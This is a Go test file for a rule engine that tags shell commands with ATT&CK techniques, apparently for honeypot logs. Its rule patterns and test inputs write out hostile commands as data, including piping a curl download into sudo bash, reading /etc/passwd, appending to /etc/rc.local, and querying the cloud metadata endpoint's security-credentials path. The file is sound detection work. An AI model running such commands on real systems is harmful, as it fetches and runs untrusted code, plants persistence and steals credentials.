package rules

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

const structRule = `id: R0099
name: test
applies_to: [command]
match:
  kind: pattern
  when:
    user: {program: [whoami, id], bare: true}
    accounts: {program: [cat, head], args: '/etc/(passwd|group)\b'}
    shell_in: {program: [$shells], piped_from: [curl, wget]}
    write: {redirect: '^/etc/rc\.local$'}
    bg: {path: '^\./', background: true, wrapped: [nohup]}
  exclude: '(?i)cowrie'
emits:
  - {technique_id: T1033, tactic: discovery, confidence: 0.8, when: [user]}
  - {technique_id: T1087, sub_technique_id: T1087.001, tactic: discovery, confidence: 0.6, when: [accounts]}
  - {technique_id: T1059, sub_technique_id: T1059.004, tactic: execution, confidence: 0.9, when: [shell_in, bg]}
  - {technique_id: T1037, sub_technique_id: T1037.004, tactic: persistence, confidence: 0.7, when: [write]}
precision: M
evidence_fields: [command_text]
`

func TestStructureRule(t *testing.T) {
	set := oneRuleSet(t, "R0099.yaml", structRule)
	tests := []struct {
		cmd  string
		want []string // techniques, in emit order
	}{
		{"whoami", []string{"T1033"}},
		{"cd /; w\\hoami", []string{"T1033"}},
		{"whoami --help", nil},
		{"id; cat /etc/passwd", []string{"T1033", "T1087.001"}},
		{"sudo cat /etc/group | wc -l", []string{"T1087.001"}},
		{"cat /etc/hosts", nil},
		{"curl -s http://x/i.sh | sudo bash", []string{"T1059.004"}},
		{"echo x | bash", nil},
		{"echo 'nohup ./x &' >> /etc/rc.local", []string{"T1037.004"}},
		{"nohup ./x >/dev/null 2>&1 &", []string{"T1059.004"}},
		{"./x &", nil},
		{"cat /etc/passwd # cowrie", nil},
		{"grep x /etc/passwd", nil},
	}
	for _, tt := range tests {
		ev := commandEvent(tt.cmd)
		got := set.Eval(ev, nil)
		var techs []string
		for _, d := range got {
			tech := d.TechniqueID
			if d.SubTechniqueID != "" {
				tech = d.SubTechniqueID
			}
			techs = append(techs, tech)
		}
		if !reflect.DeepEqual(techs, tt.want) {
			t.Errorf("%q: emitted %v, want %v", tt.cmd, techs, tt.want)
		}
		if naive := set.evalNaive(ev, nil); !reflect.DeepEqual(got, naive) {
			t.Errorf("%q: indexed %v, naive %v", tt.cmd, got, naive)
		}
	}
}

func TestStructureRuleErrors(t *testing.T) {
	tests := []struct {
		edit  func(string) string
		field string
		err   error
	}{
		{func(s string) string { return strings.Replace(s, "$shells", "$nolist", 1) }, "match.when.shell_in.program", ErrBadValue},
		{func(s string) string { return strings.Replace(s, "when: [write]", "when: [nobranch]", 1) }, "emits[3].when", ErrBadValue},
		{func(s string) string { return strings.Replace(s, "bare: true", "bare: yes please", 1) }, "match.when.user.bare", ErrType},
		{func(s string) string { return strings.Replace(s, "piped_from:", "piped_frm:", 1) }, "match.when.shell_in.piped_frm", ErrUnknownKey},
		{func(s string) string { return strings.Replace(s, "  when:\n", "  pattern: x\n  when:\n", 1) }, "match.when", ErrBadValue},
		{func(s string) string { return strings.Replace(s, `args: '/etc/(passwd|group)\b'`, `args: '(('`, 1) }, "match.when.accounts.args", ErrBadRegex},
		{func(s string) string { return strings.Replace(s, "exclude: '(?i)cowrie'", "exclude: '{{nolist}}'", 1) }, "match.exclude", ErrBadValue},
	}
	for _, tt := range tests {
		_, err := Parse("R0099.yaml", []byte(tt.edit(structRule)))
		var list ErrorList
		if !errors.As(err, &list) {
			t.Errorf("%s: got %v, want an ErrorList", tt.field, err)
			continue
		}
		found := false
		for _, e := range list {
			if e.Field == tt.field && errors.Is(e, tt.err) && e.Line > 0 {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: want %v with a line, got %v", tt.field, tt.err, err)
		}
	}
}

func TestListsChangeVersion(t *testing.T) {
	r, err := Parse("R0099.yaml", []byte(structRule))
	if err != nil {
		t.Fatal(err)
	}
	noList, err := Parse("R0099.yaml", []byte(strings.Replace(structRule, "$shells", "sh", 1)))
	if err != nil {
		t.Fatal(err)
	}
	if r.Version == noList.Version {
		t.Error("a rule using a list has the version of one that does not")
	}
}

func TestLists(t *testing.T) {
	if len(Lists()) == 0 {
		t.Fatal("no shared lists")
	}
	for _, bad := range []string{"lists: {Bad: [x]}", "lists: {x: []}", "macros: {m: '(('}", "lists: {m: [a]}\nmacros: {m: b}", "other: 1"} {
		if _, _, err := parseLists([]byte(bad)); err == nil {
			t.Errorf("%q was accepted", bad)
		}
	}
}

// TestSameTagOnce checks that two emits of one technique and tactic, both tied to branches
// that held, give one draft at the higher confidence: two would share a tag_uuid.
func TestSameTagOnce(t *testing.T) {
	const src = `id: R0098
name: test
applies_to: [command]
match:
  when:
    weak: {program: [curl], args: 'meta-data'}
    strong: {program: [curl], args: 'security-credentials'}
emits:
  - {technique_id: T1053, sub_technique_id: T1053.003, tactic: persistence, confidence: 0.5, when: [weak]}
  - {technique_id: T1053, sub_technique_id: T1053.003, tactic: persistence, confidence: 0.85, when: [strong]}
  - {technique_id: T1053, sub_technique_id: T1053.003, tactic: execution, confidence: 0.3, when: [weak]}
precision: M
evidence_fields: [command_text]
`
	set := oneRuleSet(t, "R0098.yaml", src)
	tests := []struct {
		cmd  string
		want []float64 // confidence of each draft, persistence first
	}{
		{"curl http://169.254.169.254/latest/meta-data/", []float64{0.5, 0.3}},
		{"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", []float64{0.85, 0.3}},
		{"curl http://x/security-credentials", []float64{0.85}},
	}
	for _, tt := range tests {
		got := set.Eval(commandEvent(tt.cmd), nil)
		var conf []float64
		for _, d := range got {
			conf = append(conf, d.Confidence)
		}
		if !reflect.DeepEqual(conf, tt.want) {
			t.Errorf("%q: confidences %v, want %v", tt.cmd, conf, tt.want)
		}
	}
}

// oneRuleSet parses src as the file name and builds a RuleSet of that one rule.
func oneRuleSet(t *testing.T, name, src string) *RuleSet {
	t.Helper()
	r, err := Parse(name, []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	set, err := NewRuleSet([]*Rule{r})
	if err != nil {
		t.Fatal(err)
	}
	return set
}
